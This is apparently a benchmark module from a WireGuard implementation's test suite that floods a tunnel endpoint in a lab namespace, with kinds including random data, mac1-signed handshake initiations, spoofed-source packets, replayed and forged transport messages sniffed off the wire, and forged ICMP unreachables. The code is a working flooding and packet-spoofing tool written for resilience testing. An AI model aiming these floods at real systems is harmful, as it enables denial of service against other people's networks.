"""What an attacker sends: floods of every kind, at a steady rate.

``python -m benchmarks.attacks KIND RATE SOURCE TARGET PORT PUBLIC-KEY DEVICE`` runs in a
namespace of a lab until its standard input closes, then prints how many packets it sent.
``replays`` and ``keepalives`` first listen at DEVICE for a message of the tunnel, as an
attacker on the path can.  Only the standard library is imported: starting must be quick,
and nothing of wgpy's own code may help the attacker.
"""

from __future__ import annotations

import base64
import hashlib
import itertools
import os
import random
import select
import socket
import struct
import sys
import time
from collections.abc import Callable, Iterator

from benchmarks.flooder import TICK, initiations

VARIETY = 1024
SOURCES = 65_000
ETH_P_IP = 0x0800
LARGEST = 65_507

Packet = tuple[bytes, bytes]
"""UDP payload, and the packed source address to forge (empty: our own)."""


def signed(public_key: bytes, body: bytes) -> bytes:
    """A handshake message with a right mac1 (whitepaper §5.4.4) and no mac2."""
    key = hashlib.blake2s(b"mac1----" + public_key).digest()
    return body + hashlib.blake2s(body, key=key, digest_size=16).digest() + bytes(16)


def overheard(device: str, port: int) -> bytes:
    """A transport message with content, on its way to UDP `port`."""
    with socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(3)) as tap:
        tap.bind((device, 3))
        tap.settimeout(10)
        while True:
            packet = tap.recv(1 << 16)
            start = (packet[0] & 15) * 4
            if packet[0] >> 4 != 4 or packet[9] != socket.IPPROTO_UDP:
                continue
            datagram = packet[start + 8 :]
            if struct.unpack_from("!H", packet, start + 2)[0] == port and datagram[:1] == b"\4":
                # A train as the kernel hands it over: any prefix with a whole header will do.
                return datagram[:1452] if len(datagram) > 1452 else datagram


def payloads(kind: str, public_key: bytes, heard: Callable[[], bytes]) -> list[Packet]:
    """What to send in turn."""
    rng = random.Random(4)
    if kind == "random":
        return [(rng.randbytes(rng.randint(1, 1400)), b"") for _ in range(VARIETY)]
    if kind == "mac1":
        return [(data, b"") for data in initiations("good-mac1", public_key)]
    if kind == "mac1-sources":
        made = initiations("good-mac1", public_key)
        sources = (bytes([10, 100, n >> 8, n & 255]) for n in range(SOURCES))
        return list(zip(itertools.cycle(made), sources, strict=False))
    if kind == "responses":
        bodies = (b"\2\0\0\0" + rng.randbytes(56) for _ in range(VARIETY))
        return [(signed(public_key, body), b"") for body in bodies]
    if kind == "cookie-replies":
        return [(b"\3\0\0\0" + rng.randbytes(60), b"") for _ in range(VARIETY)]
    if kind == "unknown-index":
        return [(b"\4\0\0\0" + rng.randbytes(28), b"") for _ in range(VARIETY)]
    if kind == "replays":
        return [(heard(), b"")]
    if kind == "keepalives":  # A true index, a counter to come, a forged tag.
        head = heard()[:8]
        return [(head + struct.pack("<Q", 1 << 32 | n) + rng.randbytes(16), b"")
                for n in range(VARIETY)]  # fmt: skip
    if kind == "tiny":
        return [(rng.randbytes(n % 4), b"") for n in range(VARIETY)]
    if kind == "large":
        return [(rng.randbytes(LARGEST), b"")]
    raise SystemExit(f"no such flood: {kind}")


def raw(source: bytes, target: bytes, protocol: int, payload: bytes) -> bytes:
    """An IPv4 packet; the kernel fills in the checksum."""
    size = 20 + len(payload)
    return struct.pack("!BBHHHBBH4s4s", 0x45, 0, size, 0, 0, 64, protocol, 0, source, target) \
        + payload  # fmt: skip


def unreachable(target: bytes, source: bytes, port: int) -> bytes:
    """An ICMP error that quotes a datagram of the tunnel's."""
    quoted = raw(target, source, socket.IPPROTO_UDP, struct.pack("!HHHH", port, port, 1480, 0))
    body = bytearray(struct.pack("!BBHI", 3, 3, 0, 0) + quoted)
    total = sum(struct.unpack(f"!{len(body) // 2}H", body))
    total = (total & 0xFFFF) + (total >> 16)
    struct.pack_into("!H", body, 2, ~(total + (total >> 16)) & 0xFFFF)
    return raw(source, target, socket.IPPROTO_ICMP, bytes(body))


def sender(kind: str, arguments: list[str]) -> Callable[[], object]:
    """What sends the next packet when called."""
    source, target, port_text, key, device = arguments
    port, public_key = int(port_text), base64.b64decode(key)
    packed = socket.inet_aton(target)
    if kind in ("icmp", "mac1-sources"):
        wire = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
        made: Iterator[bytes]
        if kind == "icmp":
            made = itertools.repeat(unreachable(packed, socket.inet_aton(source), port))
        else:
            udp = (
                raw(forged, packed, socket.IPPROTO_UDP,
                    struct.pack("!HHHH", 1024 + n % 60_000, port, 8 + len(data), 0) + data)
                for n, (data, forged) in enumerate(payloads(kind, public_key, bytes))
            )  # fmt: skip
            made = itertools.cycle(list(udp))
        return lambda: wire.sendto(next(made), (target, 0))
    plain = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    plain.connect((target, port))
    packets = itertools.cycle(payloads(kind, public_key, lambda: overheard(device, port)))
    return lambda: plain.send(next(packets)[0])


def flood(send: Callable[[], object], rate: float) -> int:
    """Send until stdin closes; returns how many packets left.

    What a busy machine prevented is caught up with, a tenth of a second at most.
    """
    sent, credit, last = 0, 0.0, time.monotonic()
    while not select.select([sys.stdin], [], [], TICK)[0]:
        now = time.monotonic()
        credit = min(credit + (now - last) * rate, rate / 10)
        last = now
        while credit >= 1:
            credit -= 1
            try:
                send()
                sent += 1
            except OSError:
                continue
    return sent


def main() -> None:
    """The program."""
    kind, rate, *arguments = sys.argv[1:]
    send = sender(kind, arguments)
    print("ready", flush=True)
    print(flood(send, float(rate)), flush=True)
    os._exit(0)


if __name__ == "__main__":
    main()
